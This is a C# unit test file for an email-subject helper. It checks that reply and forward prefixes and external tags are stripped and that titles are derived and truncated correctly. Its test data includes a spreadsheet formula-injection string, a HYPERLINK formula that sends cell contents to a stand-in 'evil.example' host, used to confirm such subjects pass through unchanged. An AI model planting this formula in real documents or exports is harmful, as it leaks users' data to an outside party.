using OfficeCoordinator.Api.Emails;

namespace OfficeCoordinator.Api.Tests.Emails;

public sealed class EmailSubjectsTests
{
    [Theory]
    [InlineData("RE: Venue contract", "Venue contract")]
    [InlineData("re: RE: Fw: TR: Budget sign-off for Q1 marketing", "Budget sign-off for Q1 marketing")]
    [InlineData("AW: WG: Druckfreigabe Broschüre", "Druckfreigabe Broschüre")]
    [InlineData("Fwd: FW: Security review", "Security review")]
    [InlineData("FWD: fwd: Fwd: Agenda", "Agenda")]
    [InlineData("SV: VS: Sv: Vs: Agenda", "Agenda")]
    [InlineData("Antw: Offerte", "Offerte")]
    [InlineData("RV: Presupuesto", "Presupuesto")]
    [InlineData("RE[2]: Agenda", "Agenda")]
    [InlineData("Re(3): RE [4]: Agenda", "Agenda")]
    [InlineData("RE：Agenda", "Agenda")]
    [InlineData("TR : Réunion", "Réunion")]
    [InlineData("RE:Agenda", "Agenda")]
    [InlineData("[EXTERNAL] RE: FW: [Ext] Subject", "Subject")]
    [InlineData("(EXTERNAL) Re: Subject", "Subject")]
    [InlineData("RE: [EXT] (External) fw: Subject", "Subject")]
    [InlineData("[project-x] Re: Kick-off", "Kick-off")]
    [InlineData("  RE:   Many    spaces\there  ", "Many spaces here")]
    [InlineData("Reorg plan", "Reorg plan")]
    [InlineData("Trade fair: booth", "Trade fair: booth")]
    [InlineData("Swag for the launch", "Swag for the launch")]
    [InlineData("Awards: shortlist", "Awards: shortlist")]
    [InlineData("R: Agenda", "R: Agenda")]
    [InlineData("Fwdx: Agenda", "Fwdx: Agenda")]
    [InlineData("Budget RE: Q1", "Budget RE: Q1")]
    [InlineData("[EXTERNAL]", "[EXTERNAL]")]
    [InlineData("RE:", "")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Reply_and_forward_prefixes_and_tags_are_stripped_and_nothing_else(string? subject, string expected)
    {
        var stripped = EmailSubjects.StripPrefixes(subject);

        stripped.Should().Be(expected);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")]
    [InlineData("+1 -2 @3 =4")]
    [InlineData("@SUM(1+1)")]
    [InlineData("-- not a signature")]
    [InlineData("Résumé of the 🚀 launch plan — 第1版")]
    public void Formula_like_and_unicode_subjects_stay_byte_for_byte(string subject)
    {
        var stripped = EmailSubjects.StripPrefixes(subject);

        stripped.Should().Be(subject);
    }

    [Fact]
    public void A_reply_chain_in_German_keeps_only_the_subject()
    {
        var title = EmailSubjects.TitleFor("AW: AW: WG: Druckfreigabe", "Hallo", "Jürgen Müller");

        title.Should().Be("Druckfreigabe");
    }

    [Fact]
    public void Without_a_subject_the_first_line_of_the_description_is_the_title()
    {
        var title = EmailSubjects.TitleFor("RE: ", "\n\n  Automated   notification: build 1234 finished.\nSecond line", "noreply@tools.example");

        title.Should().Be("Automated notification: build 1234 finished.");
    }

    [Fact]
    public void A_long_first_line_is_shortened_to_80_characters_at_a_word_boundary()
    {
        var line = string.Join(' ', Enumerable.Repeat("alpha", 30));

        var title = EmailSubjects.TitleFor(null, line, "Erin");

        title.Length.Should().BeLessThanOrEqualTo(80);
        title.Should().EndWith("alpha…").And.StartWith("alpha alpha");
    }

    [Fact]
    public void Without_a_subject_or_a_description_the_title_names_the_sender()
    {
        var title = EmailSubjects.TitleFor("", " \n ", "Erin Vendor");

        title.Should().Be("Email from Erin Vendor");
    }

    [Fact]
    public void Without_anything_at_all_the_title_is_still_not_empty()
    {
        var title = EmailSubjects.TitleFor(null, "", "");

        title.Should().Be("Email");
    }

    [Fact]
    public void A_very_long_subject_is_cut_to_300_characters_at_a_word_boundary()
    {
        var subject = "RE: " + string.Join(' ', Enumerable.Repeat("word", 100));

        var title = EmailSubjects.TitleFor(subject, "", "Erin");

        title.Length.Should().BeLessThanOrEqualTo(300);
        title.Should().StartWith("word word").And.EndWith("word…");
    }

    [Fact]
    public void A_long_subject_of_emoji_is_never_cut_inside_a_surrogate_pair()
    {
        var subject = string.Concat(Enumerable.Repeat("🚀", 400));

        var title = EmailSubjects.TitleFor(subject, "", "Erin");

        title.Length.Should().BeLessThanOrEqualTo(300);
        title.Should().EndWith("🚀…");
        title[..^1].EnumerateRunes().Should().OnlyContain(rune => rune.Value == 0x1F680);
    }

    [Fact]
    public void A_subject_that_fits_is_the_title_unchanged()
    {
        var subject = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

        var title = EmailSubjects.TitleFor(subject, "+1 -2 @3 =4", "@SUM(1+1)");

        title.Should().Be(subject);
    }
}
